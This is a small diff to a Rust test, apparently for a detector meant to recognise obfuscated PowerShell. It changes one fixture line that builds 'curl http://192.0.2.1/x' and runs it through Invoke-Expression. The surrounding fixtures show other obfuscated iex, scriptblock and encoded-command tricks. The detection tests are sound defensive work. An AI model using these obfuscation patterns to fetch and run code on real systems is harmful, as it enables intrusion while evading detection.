@@ -37,7 +37,7 @@ fn code_under_several_stages_is_read_as_what_it_is() {
         ),
         format!("$x = [char[]]({}) -join ''; & (gcm i*x) ; I`E`X $x", letters.join(",")),
         format!("('{}' -replace 'Q','') | iex", program.replace("url", "QurQl")),
-        format!("$p = '{{1}}{{0}}' -f ' http://192.0.2.1/x','curl'; Invoke-Expression $p"),
+        "$p = '{1}{0}' -f ' http://192.0.2.1/x','curl'; Invoke-Expression $p".to_owned(),
         format!("$r = '{reversed}'; iex ($r[-1..-23] -join '')"),
         format!("& ([scriptblock]::Create('{program}'))"),
         format!("powershell -e {}", encoded(&format!("iex '{program}'"))),
